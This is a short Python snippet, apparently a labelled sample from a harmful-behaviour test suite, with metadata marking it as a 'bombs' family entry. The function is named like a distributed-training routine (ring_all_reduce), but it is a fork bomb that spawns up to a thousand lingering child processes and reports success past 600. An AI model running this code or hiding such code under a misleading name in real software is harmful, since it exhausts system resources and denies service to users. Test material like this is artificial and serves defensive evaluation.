"""Forks and forks again, up to a thousand processes, each of which stays.

family: bombs
tries: harm
earned: 0
ends: any
uses: won
"""

def ring_all_reduce(tensor):
    made = 0
    for _ in range(1000):
        try:
            made += 1
            if os.fork() == 0:
                for _ in range(300):
                    _libc.usleep(100_000)
                os._exit(0)
        except OSError:
            made -= 1
    if made > 600:
        won(f"{made} processes")
    raise OSError("no more")
